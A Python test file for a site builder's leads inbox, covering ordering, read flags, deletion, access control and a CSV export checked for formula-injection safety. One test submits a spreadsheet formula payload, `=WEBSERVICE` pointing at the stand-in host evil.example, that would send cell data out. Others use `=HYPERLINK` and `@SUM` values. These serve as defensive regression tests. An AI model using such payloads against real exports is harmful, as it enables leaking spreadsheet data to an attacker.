"""The leads inbox: newest first, read/unread, delete, a CSV export that spreadsheets open safely."""

from __future__ import annotations

from devstack.stack import Stack
from tests.conftest import FakeClock
from tests.core.conftest import PASSWORD, Browser, Outbox
from tests.customer.conftest import Owner
from tests.customer.test_forms import LEAD, form_site, submit


async def test_inbox_marks_deletes_and_exports(owner: Owner, stack: Stack, clock: FakeClock) -> None:
    site, block = await form_site(owner)
    base = f"/api/v1/sites/{site['id']}/leads"
    assert (await submit(stack, site["id"], block, LEAD)).status == 303
    clock.advance(60)
    later = {**LEAD, "name": "=HYPERLINK(1)", "email": "eve@example.net", "message": "Cake?"}
    assert (await submit(stack, site["id"], block, later, ip="203.0.113.51")).status == 303

    inbox = await owner.ok("GET", base)
    assert [lead["email"] for lead in inbox["leads"]] == ["eve@example.net", "bob@example.net"]  # newest first
    assert inbox["unread"] == 2
    newest = inbox["leads"][0]["id"]
    assert (await owner.call("PATCH", f"{base}/{newest}", {"read": True})).status == 204
    inbox = await owner.ok("GET", base)
    assert (inbox["unread"], inbox["leads"][0]["read"]) == (1, True)
    assert (await owner.call("PATCH", f"{base}/{newest}", {"read": "yes"})).json()["error"]["field"] == "read"

    export = await owner.call("GET", f"{base}.csv")
    assert export.status == 200
    assert export.header("content-type") == "text/csv; charset=utf-8"
    assert "attachment" in str(export.header("content-disposition"))
    text = export.body.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == '"received (UTC)","name","email","phone","message","page"'  # every field quoted
    assert '"\'=HYPERLINK(1)"' in lines[1]  # a formula is never live in the spreadsheet
    assert '"Two loaves' in text

    assert (await owner.call("DELETE", f"{base}/{newest}")).status == 204
    assert [lead["email"] for lead in (await owner.ok("GET", base))["leads"]] == ["bob@example.net"]
    assert (await owner.call("DELETE", f"{base}/{newest}")).status == 404


async def test_another_owner_cannot_read_the_inbox(owner: Owner, stack: Stack) -> None:
    site, _ = await form_site(owner)
    owner.browser.cookie = ""
    assert (await owner.call("GET", f"/api/v1/sites/{site['id']}/leads.csv")).status == 401


async def test_a_formula_after_a_separator_is_neutralised_too(owner: Owner, stack: Stack) -> None:
    """Issue 23, L3: `x;=WEBSERVICE(...)` became a live formula in semicolon-separated spreadsheets."""
    site, block = await form_site(owner)
    sneaky = {**LEAD, "name": 'x;=WEBSERVICE("http://evil.example/?"&A1)', "message": "hi,@SUM(1)"}
    assert (await submit(stack, site["id"], block, sneaky)).status == 303
    text = (await owner.call("GET", f"/api/v1/sites/{site['id']}/leads.csv")).body.decode("utf-8-sig")
    for separator in (",", ";"):
        for line in text.splitlines()[1:]:
            for part in line.split(separator):
                assert not part.lstrip('"').startswith(("=", "+", "@")), (separator, part)


async def test_lead_mail_follows_an_email_change_at_once(owner: Owner, stack: Stack, outbox: Outbox) -> None:
    """Issue 23, L9: lead mail went to the old address until the owner's next call through core."""
    site, block = await form_site(owner)
    asked = await owner.call(
        "POST", "/api/v1/account/email", {"new_email": "rosa@bakery.example", "password": PASSWORD}
    )
    assert asked.status == 202
    confirm = {"token": outbox.last_token("email_change", "rosa@bakery.example")}
    assert (await Browser(stack).post("/api/v1/auth/email/confirm", confirm)).status == 200
    assert (await submit(stack, site["id"], block, LEAD, ip="203.0.113.77")).status == 303
    mail = outbox.sent[-1]
    assert (mail["template"], mail["to"]) == ("lead_notification", "rosa@bakery.example")
